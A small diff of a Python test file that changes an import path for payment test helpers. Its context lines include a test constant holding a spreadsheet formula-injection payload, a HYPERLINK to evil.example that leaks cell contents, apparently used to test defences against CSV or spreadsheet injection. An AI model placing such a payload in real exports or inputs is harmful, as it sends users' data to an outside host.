@@ -22,7 +22,7 @@ from core.models.audit import record_event
 from core.rules import applications as application_rules, calls as call_rules, money
 from core.settings import ROOT
 from tests.core.rules.conftest import COPENHAGEN_TYPE, TEST_MUNICIPALITY, Builder, random_valid_cvr, unique
-from tests.core.rules.test_payments import PASSWORD, account
+from tests.core.rules.money.test_payments import PASSWORD, account
 
 CSRF_FIELD = re.compile(r'name="csrf_token" value="([^"]+)"')
 NAME = '=HYPERLINK("http://evil.example/?leak="&A1;"Klik her")'
